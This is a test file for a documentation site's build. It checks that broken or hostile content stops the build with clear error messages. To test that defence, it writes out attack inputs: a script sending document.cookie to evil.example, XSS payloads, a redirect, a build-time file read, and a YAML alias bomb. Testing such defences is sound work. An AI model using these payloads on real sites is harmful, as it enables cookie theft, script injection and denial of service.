import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { afterAll, describe, expect, it } from 'vitest';

import { scratchProject } from '../support/project';

/** Builds the tiny guide after one edit to one of its content files; every broken build starts at once. */
function buildBroken(name: string, file: string, edit: (text: string) => string, copyTo?: string) {
  const project = scratchProject(`broken-${name}`, { content: 'tiny' });
  project.edit(file, (text) => {
    if (copyTo) project.write(copyTo, text);
    return edit(text);
  });
  afterAll(project.remove);
  return project.build();
}

/** Ten anchors, each a list of nine of the one before: a few lines that stand for 9^9 (387 million) strings. */
const aliasBomb = ['lol0: &a0 ["lol"]', ...Array.from({ length: 9 }, (_, i) => `lol${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(', ')}]`)];

describe('a build with broken content', () => {
  const missingReference = buildBroken('reference', 'roles/devops.mdx', (text) => text.replace(/goal: deliver-more-often/, 'goal: deliver-faster'));
  const malformedField = buildBroken('field', 'goals/deliver-more-often.mdx', (text) => text.replace(/^order: \d+$/m, 'order: first'));
  const duplicateId = buildBroken('duplicate', 'roles/sre.mdx', (text) => text, 'roles/sre.md');
  const missingField = buildBroken('missing', 'roles/devops.mdx', (text) => text.replace(/^summary:.*\n/m, ''));
  const badAddress = buildBroken('address', 'sources.yaml', (text) => text.replace(/url: https:\/\//, 'url: htp://'));
  const notYaml = buildBroken('yaml', 'roles/sre.mdx', (text) => text.replace(/^summary: (.*)$/m, 'summary: "$1'));
  let citationLine = 0;
  const unlistedCitation = buildBroken('citation', 'roles/devops.mdx', (text) => {
    const edited = `${text}\nAs the report found <Cite id="no-such-report" />.\n`;
    citationLine = edited.split('\n').length - 1;
    return edited;
  });
  const untouched = buildBroken('none', 'roles/sre.mdx', (text) => text);
  const embeddedCode = buildBroken(
    'embedded-code',
    'roles/devops.mdx',
    (text) =>
      `${text}\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n\n<a href="#top" onClick={() => alert(1)}>Top</a>\n\n<iframe src="https://evil.example/" />\n\n<Fragment set:html="<img src=x onerror=alert(1)>" />\n\n<style>{'body { display: none }'}</style>\n`,
  );
  // The review's ways past the old check: code in an expression, code run at build time, and a redirect off the site.
  const codeInMdx = buildBroken(
    'mdx-code',
    'roles/devops.mdx',
    (text) =>
      text.replace(/\n---\n/, "\n---\n\nexport const leak = (await import('node:fs')).readFileSync('/etc/hostname', 'utf8');\n") +
      '\n{<script>{"window.__pwn=7"}</script>}\n\nHOME={process.env.HOME}\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n\n[Read more](javascript:window.__pwn=3)\n',
  );
  const componentOutside = buildBroken('import-outside', 'roles/devops.mdx', (text) =>
    text.replace(/\n---\n/, "\n---\n\nimport Evil from '/srv/outside/Evil.astro';\n").concat('\n<Evil />\n'),
  );
  const titleMarkup = buildBroken('title-markup', 'glossary/error-budget.mdx', (text) =>
    text.replace(/^title: .*$/m, 'title: "Error budget</title><script>window.__pwn=30</script><title>Error budget"'),
  );
  const pageHead = buildBroken('page-head', 'pages/index.mdx', (text) =>
    text.replace(/^title: .*$/m, '$&\nhead:\n  - tag: script\n    content: window.__pwn = 40'),
  );
  const frontmatterBomb = buildBroken('alias-bomb', 'glossary/error-budget.mdx', (text) =>
    text.replace(/^title: .*$/m, `$&\nx-anchors:\n${aliasBomb.map((line) => `  ${line}`).join('\n')}\naliases:\n  - *a9`),
  );
  // A Markdown page beside the MDX ones, with a body the content check refuses.
  const refusedMarkdown = (() => {
    const project = scratchProject('broken-markdown', { content: 'tiny' });
    project.edit('glossary/error-budget.mdx', (text) => {
      project.write(
        'glossary/error-budget-raw.md',
        `${text.replace(/^title: .*$/m, 'title: Error budget, raw')}\n<script>window.__pwn=14</script>\n`,
      );
      return text;
    });
    afterAll(project.remove);
    return project.build();
  })();
  // A component of the guide's that writes a script it does not own: the policy leaves it out and the build stops.
  const foreignScript = (() => {
    const project = scratchProject('broken-foreign-script', { content: 'tiny' });
    writeFileSync(join(project.dir, 'src/components/Leaky.astro'), '<Fragment set:html={"<script>window.__pwn = 41</script>"} />\n');
    project.edit('roles/sre.mdx', (text) =>
      text.replace(/\n---\n/, "\n---\n\nimport Leaky from '../../src/components/Leaky.astro';\n").concat('\n<Leaky />\n'),
    );
    afterAll(project.remove);
    return project.build();
  })();

  it('fails on a reference to a missing entry, naming the file, the field, the value and the fix', async () => {
    const { ok, output } = await missingReference;
    expect(ok).toBe(false);
    expect(output).toMatch(
      /content\/roles\/devops\.mdx: field "serves\[\d\]\.goal" refers to goals "deliver-faster", which does not exist\. Fix: use one of: deliver-more-often/,
    );
  });

  it('fails on a malformed field, naming the file and the field', async () => {
    const { ok, output } = await malformedField;
    expect(ok).toBe(false);
    expect(output).toContain('content/goals/deliver-more-often.mdx');
    expect(output).toContain('order must be a whole number, such as 3');
  });

  it('says a missing field is required and what it is for, with the file and the line', async () => {
    const { ok, output } = await missingField;
    expect(ok).toBe(false);
    expect(output).toContain(
      'content/roles/devops.mdx:1: field "summary" is missing, and it is required: what it is, in one line, shown in lists and search results and as the page\'s description. Fix: add "summary:" to the frontmatter',
    );
  });

  it('shows a wrong value with its line and what the field needs', async () => {
    const { ok, output } = await malformedField;
    expect(ok).toBe(false);
    expect(output).toMatch(/content\/goals\/deliver-more-often\.mdx:\d+: field "order" is "first", but order must be a whole number, such as 3/);
  });

  it('points a bad address in sources.yaml at its entry and line', async () => {
    const { ok, output } = await badAddress;
    expect(ok).toBe(false);
    expect(output).toMatch(/content\/sources\.yaml:\d+: field "[\w-]+\.url" is "htp:\/\/[^"]+", but url must be a full https:\/\/ address\./);
  });

  it('names the line, the field and a fix for frontmatter that is not YAML', async () => {
    const { ok, output } = await notYaml;
    expect(ok).toBe(false);
    expect(output).toMatch(
      /content\/roles\/sre\.mdx:\d+: the frontmatter is not valid YAML in field "summary": .*\. Fix: close the quote or bracket this value opens\./,
    );
  });

  it('gives the line of a citation the page does not list', async () => {
    const { ok, output } = await unlistedCitation;
    expect(ok).toBe(false);
    expect(output).toContain(
      `content/roles/devops.mdx:${citationLine}: the body cites "no-such-report" but the field "sources" does not list it. Fix: add "no-such-report" to sources and to content/sources.yaml.`,
    );
  });

  it('fails on a duplicate id, naming both files', async () => {
    const { ok, output } = await duplicateId;
    expect(ok).toBe(false);
    expect(output).toMatch(/content\/roles\/sre\.mdx?: duplicate id "sre", already used by content\/roles\/sre\.mdx?/);
  });

  it('builds the untouched tiny guide, so each failure above comes from its one edit', async () => {
    const { ok, output } = await untouched;
    expect(output).not.toMatch(/\[ERROR\]/);
    expect(ok).toBe(true);
  });

  it('refuses scripts, styles, embeds and event handlers written into content, naming the file, the line and the fix', async () => {
    const { ok, output } = await embeddedCode;
    expect(ok).toBe(false);
    const refused = (line: number, what: string) =>
      `content/roles/devops.mdx:${line}: ${what} is not allowed in the guide's content, as only the guide's own code may run on its pages.`;
    const last = Number(/content\/roles\/devops\.mdx:(\d+): a raw <style>/.exec(output)?.[1]);
    expect(output).toContain(refused(last - 8, 'a raw <script> element'));
    expect(output).toContain(refused(last - 6, 'the event handler onClick on <a>'));
    expect(output).toContain(refused(last - 4, 'a raw <iframe> element'));
    expect(output).toContain(refused(last - 2, 'set:html on <Fragment>, which inserts raw HTML'));
    expect(output).toContain(refused(last, 'a raw <style> element'));
    expect(output).toContain('Fix: remove it. Behaviour or styling belongs in a component in src/components/');
  });

  it('refuses code in MDX expressions and exports and a redirect off the site, naming the file, the line and the fix', async () => {
    const { ok, output } = await codeInMdx;
    expect(ok).toBe(false);
    const refused = (what: string) =>
      new RegExp(
        `content/roles/devops\\.mdx:\\d+: ${what} is not allowed in the guide's content, as only the guide's own code may run on its pages\\. Fix: `,
      );
    expect(output).toMatch(refused('an export, which runs code when the page is built'));
    expect(output).toMatch(refused('the expression \\{<script>\\{"window\\.__pwn=7"\\}</script>\\}'));
    expect(output).toMatch(refused('the expression \\{process\\.env\\.HOME\\}'));
    expect(output).toMatch(refused('a raw <meta> element'));
    expect(output).toMatch(refused('a javascript: address in a Markdown link'));
  });

  it('refuses a component imported from outside the guide', async () => {
    const { ok, output } = await componentOutside;
    expect(ok).toBe(false);
    expect(output).toMatch(/content\/roles\/devops\.mdx:\d+: an import from "\/srv\/outside\/Evil\.astro" is not allowed in the guide's content/);
  });

  it('refuses a title holding markup, naming the file, the line, the field and the value', async () => {
    const { ok, output } = await titleMarkup;
    expect(ok).toBe(false);
    expect(output).toMatch(
      /content\/glossary\/error-budget\.mdx:\d+: field "title" is "Error budget<\/title><script>.*", but frontmatter is plain text, shown as written in the page's head and in lists, so it may not hold markup such as "<\/title>"\. Fix: /,
    );
  });

  it('refuses a page that adds tags to its head', async () => {
    const { ok, output } = await pageHead;
    expect(ok).toBe(false);
    expect(output).toContain("a page may not add tags to its head, which the guide's layout writes. Fix: remove head.");
  });

  it('refuses a YAML alias bomb in frontmatter at once, naming the file, the line and the field', async () => {
    const { ok, output } = await frontmatterBomb;
    expect(ok).toBe(false);
    expect(output).toMatch(
      /content\/glossary\/error-budget\.mdx:\d+: the frontmatter repeats a value with the YAML alias \*a0 in field "x-anchors", but the guide's content uses no anchors or aliases/,
    );
  });

  it('fails, rather than publish the page empty, when a Markdown file holds what the content check refuses', async () => {
    const { ok, output } = await refusedMarkdown;
    expect(ok).toBe(false);
    expect(output).toMatch(/content\/glossary\/error-budget-raw\.md:\d+: a raw <script> element is not allowed in the guide's content/);
    expect(output).toContain('The build stops rather than publish these pages without their text.');
  });

  it("stops when a page carries an inline script that is not the guide's own, naming the page", async () => {
    const { ok, output } = await foreignScript;
    expect(ok).toBe(false);
    expect(output).toContain(`roles/sre/index.html: an inline script that none of the guide's components emits ("window.__pwn = 41")`);
  });
});
